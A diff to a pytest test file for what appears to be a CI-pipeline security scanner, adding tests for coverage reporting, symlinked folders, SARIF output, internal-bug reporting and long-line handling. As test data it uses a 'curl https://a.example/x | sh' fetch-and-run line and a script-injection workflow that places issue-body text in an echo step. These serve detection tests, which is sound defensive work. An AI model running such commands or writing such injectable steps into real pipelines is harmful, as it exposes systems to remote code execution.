@@ -1,28 +1,36 @@
 from __future__ import annotations
 
 import gc
+import json
 import subprocess
 import sys
 import weakref
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any, NoReturn
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from modes import needs_user, sealed
 
-from pipelaw import rulebook
+from pipelaw import engine, rulebook
 from pipelaw.collector import OBJECTS, seldom_collected
 from pipelaw.discover import Candidate
-from pipelaw.errors import PolicyError, UsageError
+from pipelaw.document import Problem
+from pipelaw.errors import PolicyError, UsageError, bug
 from pipelaw.finding import Severity, Suppression
+from pipelaw.loaders.github_triggers import triggers_of
+from pipelaw.report import Style, render
 from pipelaw.repository import Part, Work, scan_repository
 from pipelaw.scanner import scan
 from pipelaw.suppress import Ignore, Lines, ignores
 from pipelaw.tree import MemoryTree
 
 if TYPE_CHECKING:
+    from collections.abc import Iterable
     from pathlib import Path
 
+    from pipelaw.document import Document, Node
+    from pipelaw.model import Pipeline, Trigger
     from pipelaw.rulebook import Rulebook
 
 ISSUE = """\
@@ -252,6 +260,61 @@ def test_processes_give_the_same_report_as_one(tmp_path: Path, book: Rulebook) -
     assert seen[-1] == (10, 10)
 
 
+def test_a_process_is_for_some_files_not_for_each() -> None:
+    from pipelaw.scanner import FEW_EACH, _processes
+
+    assert [_processes(99, files) for files in (1, 3 * FEW_EACH, 10_000)] == [2, 3, 99]
+    assert _processes(2, 10_000) == 2
+
+
+@needs_user
+@pytest.mark.parametrize("jobs", [1, 2])
+def test_what_cannot_be_searched_is_reported_beside_the_rest(
+    tmp_path: Path, book: Rulebook, jobs: int
+) -> None:
+    folder = repositories(tmp_path, 2)
+    whole = scan([str(folder)], rulebook=book)
+    (folder / "lost+found").mkdir()
+    with sealed(folder / "lost+found"):
+        found = scan([str(folder)], rulebook=book, jobs=jobs)
+    problem = Problem("lost+found", 1, 1, "permission denied: not searched")
+    assert found.findings == whole.findings
+    assert sorted({*found.coverage.unreadable} - {*whole.coverage.unreadable}) == [problem]
+    assert (found.coverage.repositories, found.coverage.files) == (2, 4)
+
+
+def test_a_pipeline_folder_that_is_kept_elsewhere_is_reported(
+    tmp_path: Path, book: Rulebook
+) -> None:
+    repositories(tmp_path, 1)
+    (tmp_path / "shop").mkdir()
+    (tmp_path / "shop" / ".github").symlink_to("../repo0/.github")
+    found = scan([str(tmp_path / "shop")], rulebook=book)
+    assert found.coverage.unreadable == (
+        Problem(".github", 1, 1, "it lies outside the repository"),
+    )
+
+
+def test_paths_of_several_roots_are_below_one_folder(
+    tmp_path: Path, book: Rulebook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = repositories(tmp_path, 1) / "repo0"
+    child = repositories(folder / "tools", 1) / "repo0"
+    (child / ".git").mkdir()
+    (folder / ".git").mkdir()
+    away = repositories(tmp_path / "away", 1) / "repo0"
+    monkeypatch.chdir(folder)
+    found = scan([".", "tools/repo0", str(away)], rulebook=book)
+    assert {finding.span.path for finding in found.findings} == {
+        WORKFLOW,
+        f"tools/repo0/{WORKFLOW}",
+        f"repo0/{WORKFLOW}",
+    }
+    places = json.loads(render("sarif", found, Style()))["runs"][0]["results"]
+    uris = {one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in places}
+    assert uris == {finding.span.path for finding in found.findings}
+
+
 def test_a_report_names_the_current_folder(
     tmp_path: Path, book: Rulebook, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -260,6 +323,64 @@ def test_a_report_names_the_current_folder(
     monkeypatch.chdir(shop)
     assert scan(["."], rulebook=book).root == "shop"
     assert scan([str(shop)], rulebook=book).root == str(shop)
+
+
+def test_a_bug_costs_the_file_that_it_is_about(
+    tmp_path: Path, book: Rulebook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for module in ("pipelaw.loaders", "pipelaw.repository"):
+        monkeypatch.setattr(f"{module}.bug", bug)
+    read, found = triggers_of, engine.judge
+
+    def failed() -> NoReturn:
+        raise IndexError("no such thing")
+
+    def reading(document: Document, node: Node | None) -> Iterable[Trigger]:
+        return read(document, node) if document.source.path != WORKFLOW else failed()
+
+    def judging(pipeline: Pipeline, *rest: Any) -> Any:
+        return found(pipeline, *rest) if pipeline.path.endswith("/good.yml") else failed()
+
+    monkeypatch.setattr("pipelaw.loaders.github.triggers_of", reading)
+    monkeypatch.setattr(engine, "judge", judging)
+    (tmp_path / WORKFLOW).parent.mkdir(parents=True)
+    for name in (WORKFLOW, ".github/workflows/good.yml", ".github/workflows/odd.yml"):
+        (tmp_path / name).write_text(ISSUE)
+    report = scan([str(tmp_path)], rulebook=book)
+    assert {finding.span.path for finding in report.findings} >= {".github/workflows/good.yml"}
+    first, second = report.coverage.unreadable
+    assert (first.path, second.path) == (WORKFLOW, ".github/workflows/odd.yml")
+    assert first.message.startswith("this is a bug in pipelaw in pipelaw.loaders.github, line ")
+    assert first.message.endswith(": IndexError: no such thing")
+    assert second.message.startswith("this is a bug in pipelaw in pipelaw.repository, line ")
+
+
+def test_a_long_line_is_kept_once_however_many_findings_it_has(book: Rulebook) -> None:
+    text = ISSUE.replace("echo ", "echo " + "${{ github.event.issue.body }}, " * 50)
+    found = [one for one in part({WORKFLOW: text}, book).findings if one.rule == "script-injection"]
+    assert len(found) == 51
+    assert len({id(one.excerpt[0]) for one in found}) == 1
+
+
+@pytest.mark.parametrize("filler", ["<" * 600, "a" * 21_000, '"(" ' * 600])
+@pytest.mark.parametrize("glue", ["  # {}", "; : {}"])
+def test_a_line_that_is_too_long_hides_nothing(book: Rulebook, filler: str, glue: str) -> None:
+    line = "curl https://a.example/x | sh" + glue.format(filler)
+    for platform, text in {
+        "github": f"on: push\npermissions: {{}}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n"
+        f"          true\n          {line}\n",
+        "gitlab": f"a:\n  script:\n    - true\n    - |\n      {line}\n",
+        "drone": "kind: pipeline\nname: a\nsteps:\n  - name: a\n    image: b\n    commands:\n"
+        f"      - true\n      - |\n        {line}\n",
+    }.items():
+        found = part({"x.yml": text}, book, **{"x.yml": platform})
+        assert "remote-script" in rules(found)
+        [problem] = found.unreadable
+        number = next(n for n, one in enumerate(text.splitlines(), 1) if "curl" in one)
+        assert (problem.line, problem.message.partition(":")[0]) == (
+            number,
+            "a line of the script is too long to be parsed as a whole",
+        )
 
 
 @pytest.mark.parametrize("place", ["tools/greet", ".github/actions/greet"])
